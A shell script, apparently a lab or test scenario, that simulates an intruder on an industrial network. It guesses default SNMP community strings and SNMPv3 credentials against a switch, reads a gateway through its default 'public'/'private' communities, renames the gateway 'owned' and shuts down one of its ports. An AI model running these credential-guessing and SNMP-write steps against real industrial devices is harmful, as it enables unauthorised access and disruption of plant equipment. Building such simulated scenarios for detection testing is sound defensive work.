# A day later: a notebook nobody knows tries words and users at the switch, then finds a gateway that still has the words
# every maker begins with, reads all of it, and switches one of its ports off.
# hosts: sw-hall1 gw-cell4 srv-plant notebook9
# peers: snmpd snmp
# tools: snmpd snmpget snmpbulkwalk snmpset

. "$LAB/snmp.sh"
watch="-v 2c -c werk-sehen"
snmp_serve sw-hall1 werk-sehen werk-stellen 'Hirschmann RSP35 HiOS-2S-09.1.00'
snmp_serve gw-cell4 public private 'WAGO 750-8212 FW 04.02.13'
ip -n "$prefix-gw-cell4" link add port2 type veth peer name cable2
ip -n "$prefix-gw-cell4" link set port2 up
port=$(ip -n "$prefix-gw-cell4" -j link show port2 | jq '.[0].ifindex')
poll() {
	while snmp_tool srv-plant snmpget $watch "$(address sw-hall1)" 1.3.6.1.2.1.1.3.0 1.3.6.1.2.1.2.2.1.10.1 >/dev/null; do
		sleep 1
	done
}
poll &
for word in public private admin cisco hirschmann manager secret snmp; do
	snmp_refused notebook9 sw-hall1 -v 2c -c "$word"
done
for name in admin root monitor snmp operator cisco hirschmann initial; do
	snmp_refused notebook9 sw-hall1 -v 3 -l authNoPriv -u "$name" -a SHA -A 12345678
done
for word in 12345678 password hirschmann; do
	snmp_refused notebook9 sw-hall1 -v 3 -l authPriv -u leitstand -a SHA -A "$word" -x AES -X "$word"
done
snmp_get notebook9 gw-cell4 sysDescr.0 1.3.6.1.2.1.1.1.0 -v 2c -c public
snmp_walk notebook9 gw-cell4 1.3.6.1.2.1.1 snmpbulkwalk -v 2c -c public
snmp_walk notebook9 gw-cell4 1.3.6.1.2.1.2 snmpbulkwalk -v 2c -c public
snmp_set notebook9 gw-cell4 sysName.0 1.3.6.1.2.1.1.5.0 s owned -v 2c -c public
snmp_set notebook9 gw-cell4 sysName.0 1.3.6.1.2.1.1.5.0 s gone -v 2c -c private
snmp_set notebook9 gw-cell4 "ifAdminStatus.$port" "1.3.6.1.2.1.2.2.1.7.$port" i 2 -v 1 -c private
ip -n "$prefix-gw-cell4" link show port2 | grep -qv '<.*UP'
sleep 2
for word in werk-sehen 12345678; do
	tell "{\"fact\":\"secret\",\"value\":\"$word\"}"
done
